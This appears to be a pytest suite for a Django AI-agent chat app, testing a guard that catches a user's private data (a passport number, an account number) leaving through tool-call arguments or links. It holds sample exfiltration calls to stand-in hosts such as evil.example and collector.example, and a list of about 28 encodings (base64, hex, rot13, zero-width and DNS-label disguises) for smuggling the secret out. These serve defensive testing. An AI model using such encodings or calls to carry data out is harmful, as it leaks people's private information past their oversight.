"""Which words a call would carry out, in which forms; the switch by which nothing leaves unasked.

The forms are written by the standard library's encoders and by coreutils, never by our own code.
"""

from __future__ import annotations

import base64
import codecs
import html
import json
import quopri
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from conversations.accounts.people import save_preferences
from conversations.agent.approval_rules import ApprovalQuestion
from conversations.agent.ports import ToolDone
from conversations.context.view import wire
from conversations.log.leases import Lease
from conversations.models import ApprovalRule, Conversation, EgressRule
from conversations.toolbox import leaving_words, sources
from conversations.toolbox.disguises import is_unclear
from conversations.toolbox.information_flow import InformationFlow
from conversations.toolbox.leaving_words import MOST_ARGUMENTS, Arguments
from conversations.toolbox.sources import MOST_PDFS
from conversations.toolbox.toolset import build_toolset
from conversations.transcript.questions import list_open_questions
from conversations.transfer.importing import import_recording
from conversations.transfer.recordings import read_record
from conversations.turns import tool_calls
from tests.support import people_and_turns, small_files, stored_turns, toy_tools
from tests.support.approval_turns import VISIT, ask, calling, check, waiting_turn

SECRET = "passport KX4711902 of Halden"
TEXT = f"The merger closes in March. The {SECRET}; account DE89 3704 0044 0532 0130 00."


def coreutils(program: str) -> Callable[[str], str]:
    """Encode by a program of the system."""

    def encode(text: str) -> str:
        done = subprocess.run(
            [program, "-w0"], input=text.encode(), capture_output=True, check=True
        )
        return done.stdout.decode()

    return encode


FORMS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "percent": quote,
    "all percent": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "twice percent": lambda text: quote(quote(text)),
    "form": quote_plus,
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "url-safe base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 of coreutils": coreutils("base64"),
    "base32 of coreutils": coreutils("base32"),
    "base64 behind a word": lambda text: "xyz" + base64.b64encode(text.encode()).decode(),
    "base64 of base64": lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    "base64 of utf-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "hex": lambda text: text.encode().hex(),
    "hex with colons": lambda text: text.encode().hex(":"),
    "codes": lambda text: "-".join(map(str, text.encode())),
    "bits": lambda text: " ".join(f"{byte:08b}" for byte in text.encode()),
    "entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "named entities": lambda text: html.escape(text.replace(" ", "<&>")),
    "escapes": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "JSON": lambda text: json.dumps({"a": text}),
    "quoted printable": lambda text: quopri.encodestring(text.encode()).decode(),
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "backwards": lambda text: text[::-1],
    "upper case": str.upper,
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if c != " " else c for c in text),
    "spaced": "\u200b".join,
    "dotted": lambda text: ".".join(text.replace(" ", "")),
    "labels of a host": lambda text: text.replace(" ", ".") + ".collector.example",
}


@pytest.mark.parametrize("form", FORMS)
def test_words_are_found_in_every_form(form: str) -> None:
    url = f"https://collector.example/?d={FORMS[form](SECRET)}"
    found = Arguments({"url": url}, receiver="collector.example").find(TEXT, "attached:a.pdf")
    assert "kx4711902" in "".join(word.casefold() for word, _ in found.words)
    assert {source for _, source in found.words} == {"attached:a.pdf"}
    assert found.is_telling


@pytest.mark.parametrize(
    ("given", "is_telling"),
    [
        ({"url": "https://weather.example/berlin/2026-11-24"}, False),
        ({"url": "https://news.example/search?q=merger+March"}, False),
        ({"url": "https://news.example/a", "start": 20_000, "length": 5}, False),
        ({"url": "https://news.example/a1b2c3d4e5f6/YWJjZGVmZ2hpamtsbW5vcA=="}, False),
        ({"text": "the merger closes in march"}, True),
        ({"text": ["DE89370400440532013000"]}, True),
        ({"deep": {"er": [1, {"n": "KX-47-11-902"}]}}, True),
        ({"text": "x" * (MOST_ARGUMENTS + 1)}, True),
    ],
)
def test_only_what_is_there_by_no_accident_is_telling(
    given: dict[str, Any], is_telling: bool
) -> None:
    assert Arguments(given).find(TEXT, "typed:").is_telling is is_telling


def test_the_words_of_a_row_are_named_as_one_and_the_best_come_first() -> None:
    body = f"Hi, about the merger closes in March: I wanted to say {SECRET}."
    words = [word for word, _ in Arguments({"body": body}).find(TEXT, "mail:").words]
    assert words == ["passport KX4711902 of Halden", "merger closes in March"]


def test_a_text_of_more_words_than_can_be_looked_for_is_telling(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    text = " ".join(f"wordsli{letter}" for letter in "abcdefgh")
    arguments = {"note": "words like these"}
    assert not Arguments(arguments).find(text, "page:x").is_telling
    monkeypatch.setattr(leaving_words, "MOST_SEARCHED", 500)
    given = Arguments(arguments)
    assert given.find("nothing of theirs", "page:x").words == ()
    assert given.find(text, "page:x").is_telling


# The path.


@pytest.fixture
def _toys(monkeypatch: Any, tmp_path: Path) -> None:
    toy_tools.install(monkeypatch, tmp_path / "ran")


TELL = ("v", "visit", {"host": "evil.example:443", "said": "KX4711902"})


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
@pytest.mark.parametrize(
    ("said", "asks"),
    [
        (f"My {SECRET}", True),
        ("Hello", False),
        (f"Tell evil.example my {SECRET}", False),
        (f"Tell https://evil.example/ my {SECRET}", False),
        (f"Tell notevil.example and evil.example.org my {SECRET}", True),
    ],
)
def test_typed_words_leave_for_a_mentioned_site_alone(said: str, asks: bool) -> None:
    lease = people_and_turns.started_turn(text=said)
    found = check(lease, calling(lease, TELL))
    assert bool(found) is asks
    if asks:
        question = found["v"]
        assert isinstance(question, ApprovalQuestion)
        assert (question.reason, question.sources) == ("private", ("typed:",))
        assert question.words == (("KX4711902", "typed:"),)


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
def test_words_of_the_instructions_for_all_chats_were_typed() -> None:
    lease = people_and_turns.started_turn(text="Hello")
    owner = Conversation.objects.get(pk=lease.conversation_id).owner_id
    save_preferences(user_id=owner, changes={"instructions": f"My {SECRET}"})
    question = check(lease, calling(lease, TELL))["v"]
    assert isinstance(question, ApprovalQuestion)
    assert question.words == (("KX4711902", "typed:"),)


def read(lease: Lease, text: str, origin: str = "page", url: str = "") -> None:
    """Have the conversation read a text by a tool."""
    calling(lease, ("r", "read_diary", {"url": url} if url else {}))
    tool_calls.start_tool(lease=lease, tool_use_id="r", origin=origin)
    done = ToolDone(wire.encode(text), "ok")
    tool_calls.finish_tool(lease=lease, tool_use_id="r", done=done)


LISTED = "https://news.example/KX4711902"


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
@pytest.mark.parametrize(
    ("arguments", "destination", "tells"),
    [
        ({"url": LISTED}, "news.example:443", False),
        ({"url": LISTED, "start": 5}, "news.example:443", False),
        # The end of a redirect is not known.
        ({"url": LISTED}, "", False),
        ({"url": LISTED, "note": f"It is {SECRET}"}, "news.example:443", True),
        ({"url": LISTED, "note": f"It is {SECRET}"}, "mcp:notes", True),
        ({"url": LISTED}, "mcp:notes", True),
        ({"url": LISTED}, "evil.example:443", True),
        ({"url": [LISTED]}, "news.example:443", True),
    ],
)
def test_a_published_address_clears_itself_alone_and_for_its_own_host(
    arguments: dict[str, Any], destination: str, tells: bool
) -> None:
    lease = people_and_turns.started_turn(text=f"My {SECRET}")
    read(lease, f"Read on at {LISTED}.", url="https://portal.example/")
    flow = InformationFlow(people_and_turns.conversation_of(lease))
    assert ("typed:" in flow.list_telling(arguments, destination)) is tells


def test_signs_between_words_are_no_packed_bytes() -> None:
    signs = [chr(0x1F600 + at) for at in range(40)]
    assert is_unclear(f"Look: {''.join(signs)}")
    assert not is_unclear("\n".join(f"{sign} and some words" for sign in signs))


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
def test_what_is_too_long_to_be_compared_is_asked_about(monkeypatch: Any) -> None:
    lease = people_and_turns.started_turn(text="Hello")
    read(lease, f"{'words ' * 40} My {SECRET}.", origin="mcp")
    conversation = people_and_turns.conversation_of(lease)
    innocent = {"url": "https://docs.example/guide"}
    flow = InformationFlow(conversation)
    assert flow.list_telling(innocent, "docs.example:443") == ()
    assert flow.check_link(innocent["url"]) == ((), ())
    unseen = quote("\u2062\u2064" * 8)
    assert flow.check_link(f"{innocent['url']}?q={unseen}") == ((), ("hidden:",))
    monkeypatch.setattr(sources, "MOST_COMPARED", 100)
    flow = InformationFlow(conversation)
    assert flow.list_telling(innocent, "docs.example:443") == ("mcp:read_diary",)
    assert flow.check_link(innocent["url"]) == ((), ("mcp:read_diary",))


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
def test_a_card_says_who_would_be_told_what() -> None:
    lease = people_and_turns.started_turn(text=f"My {SECRET}")
    ask(lease, TELL)
    ((question,),) = list_open_questions([people_and_turns.turn_of(lease)]).values()
    assert (question.receiver, question.destination) == ("site", "evil.example")
    assert question.why == "The request carries what you typed; you have not mentioned this site."
    assert [(word.text, word.source) for word in question.words] == [
        ("KX4711902", "what you typed")
    ]
    assert ("said", (("KX4711902", True),)) in question.arguments


# Nothing leaves without me.

NAMED = "Look at https://evil.example/"


def switch_on(by: str, settings: Any, conversation: Conversation) -> None:
    match by:
        case "site":
            settings.AGENTWEB_ASK_BEFORE_EGRESS = True
        case "group":
            group = Group.objects.create(name="Lawyers")
            conversation.owner.groups.add(group)
            EgressRule.objects.create(group=group)
        case _:
            Conversation.objects.update(asks_before_egress=True)


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
@pytest.mark.parametrize("by", ["chat", "group", "site"])
def test_nothing_leaves_unasked_where_that_is_on(by: str, settings: Any) -> None:
    lease = people_and_turns.started_turn(text=NAMED)
    ApprovalRule.objects.create(tool="visit", rule="allow")
    conversation = people_and_turns.conversation_of(lease)
    Conversation.objects.update(web_search="beside")
    (visit, _) = calling(lease, VISIT, ("k", "peek", {}))
    assert check(lease, (visit,)) == {}
    conversation.refresh_from_db()
    assert build_toolset(conversation).server_tools
    switch_on(by, settings, conversation)
    (question,) = check(lease, (visit,)).values()
    assert isinstance(question, ApprovalQuestion)
    assert (question.reason, question.destination) == ("egress", "evil.example:443")
    conversation.refresh_from_db()
    assert not build_toolset(conversation).server_tools
    client = Client()
    client.force_login(conversation.owner)
    chat = reverse("chat", args=[conversation.public_id])
    tools = reverse("tools", args=[conversation.public_id])
    assert "Nothing leaves without you" in client.get(chat).content.decode()
    # A person switches off their own switch and no other's.
    client.post(tools, {"egress_was": "1"})
    is_on = "Nothing leaves without you" in client.get(chat).content.decode()
    assert is_on is (by != "chat")
    client.post(tools, {"egress_was": "", "egress": "1"})
    assert Conversation.objects.get().asks_before_egress is (by == "chat")


@pytest.mark.django_db
@pytest.mark.usefixtures("_toys")
def test_a_link_opens_at_once_unless_it_carries_words_of_the_chat() -> None:
    lease, _ = waiting_turn(("f", "fire", {}), text=f"My {SECRET}. https://known.example/KX4711902")
    conversation = people_and_turns.conversation_of(lease)
    client = Client(headers={"sec-fetch-site": "same-origin"})
    client.force_login(conversation.owner)
    page = reverse("external_link", args=[conversation.public_id])
    for free in ("https://docs.example/guide", "https://known.example/KX4711902"):
        answer = client.get(page, {"to": free})
        assert (answer.status_code, answer.headers["Location"]) == (302, free)
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        # Nobody outside can send a person on by this address.
        outside = client.get(page, {"to": free}, headers={"sec-fetch-site": "cross-site"})
        assert outside.status_code == 200
    carrying = client.get(page, {"to": "https://docs.example/?q=KX4711902"})
    assert carrying.status_code == 200
    assert "Open <bdi>docs.example</bdi>?" in carrying.content.decode()
    assert "KX4711902</mark>" in carrying.content.decode()
    # A few plain words of what was typed are in many addresses by chance.
    by_chance = client.get(page, {"to": "https://docs.example/passport/of"})
    assert by_chance.status_code == 302
    # What the tools' parser refuses is compared all the same.
    for more in ("&" * 4_000, "\\", "\t"):
        hidden = client.get(page, {"to": f"https://docs.example/?q=KX4711902{more}"})
        assert (hidden.status_code, b"KX4711902</mark>" in hidden.content) == (200, True)
    for bad in ("javascript:alert(1)", "https://", "//x.example", "ftp://x.example/", "\0", "x"):
        assert client.get(page, {"to": bad}).status_code == 400


BROKEN = ("locked PDF", "many PDFs", "web address")


@pytest.mark.django_db
@pytest.mark.parametrize("how", BROKEN)
def test_a_link_waits_where_a_file_could_not_be_compared(how: str) -> None:
    good = base64.b64encode(small_files.pdf(1)).decode()
    kind = {"type": "base64", "media_type": "application/pdf"}
    given: dict[str, list[dict[str, str]]] = {
        "locked PDF": [kind | {"data": base64.b64encode(b"%PDF-1.4 nothing").decode()}],
        "many PDFs": [kind | {"data": good}] * (MOST_PDFS + 1),
        "web address": [{"type": "url", "url": "https://files.example/a.pdf"}],
    }
    files = [
        {"type": "document", "source": one, "title": f"{at}.pdf"}
        for at, one in enumerate(given[how])
    ]
    said = [
        {"role": "user", "content": [*files, {"type": "text", "text": "Look"}]},
        {"role": "assistant", "content": "Yes."},
    ]
    record = read_record(json.dumps({"id": "r", "messages": said}).encode())
    user = people_and_turns.person()
    conversation = import_recording(user=user, recording=record, model=stored_turns.MODEL)
    client = Client(headers={"sec-fetch-site": "same-origin"})
    client.force_login(user)
    answer = client.get(
        reverse("external_link", args=[conversation.public_id]),
        {"to": "https://docs.example/guide"},
    )
    assert answer.status_code == 200
    assert "could not be compared" in answer.content.decode()
    assert "0.pdf" in answer.content.decode()
